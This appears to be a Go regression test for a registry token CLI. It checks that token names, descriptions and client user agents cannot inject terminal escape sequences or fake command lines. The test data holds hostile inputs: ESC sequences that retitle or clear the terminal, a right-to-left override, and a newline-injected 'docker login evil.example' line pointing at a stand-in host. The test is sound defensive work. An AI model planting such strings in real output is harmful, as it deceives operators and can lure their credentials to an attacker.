package main

import (
	"bytes"
	"strings"
	"testing"
	"time"

	"github.com/tollgate/tollgate"
	"github.com/tollgate/tollgate/api"
)

// TestCLIOutputCannotCarryTerminalEscapes: token names and descriptions
// stored before they were validated (or by another writer) were printed
// as they were: an ESC sequence rewrote the operator's terminal, a newline
// made a line that passes for a command.
func TestCLIOutputCannotCarryTerminalEscapes(t *testing.T) {
	tok := api.Token{ID: "tok_1", Account: "acme", Name: "ci\x1b]0;owned\x07\x1b[2J", Description: "x\ndocker login evil.example\u202e",
		Scope: []string{"images"}, Status: "active", CreatedAt: time.Unix(0, 0)}
	var list, detail bytes.Buffer
	if err := printTokens(&list, []api.Token{tok}); err != nil {
		t.Fatal(err)
	}
	// A refused client chooses its user agent: it is printed too.
	rl := &api.RefusalList{Token: tok.ID, Refusals: []api.Refusal{{At: time.Unix(60, 0), Address: "192.0.2.7",
		UserAgent: "curl\x1b[2J\ndocker login evil.example", Reason: "address_not_allowed"}}}
	if err := printTokenDetail(&detail, &tok, "https://registry.example.com", nil, rl); err != nil {
		t.Fatal(err)
	}
	for what, out := range map[string]string{"list": list.String(), "detail": detail.String()} {
		for _, line := range strings.Split(out, "\n") {
			if strings.ContainsFunc(line, tollgate.IsControl) {
				t.Errorf("%s prints a control character: %q", what, line)
			}
			if strings.HasPrefix(line, "docker login evil") {
				t.Errorf("%s prints the description's second line as a line of its own", what)
			}
		}
		if !strings.Contains(out, `ci\x1b]0;owned\x07\x1b[2J`) {
			t.Errorf("%s does not show the name escaped:\n%s", what, out)
		}
	}
}
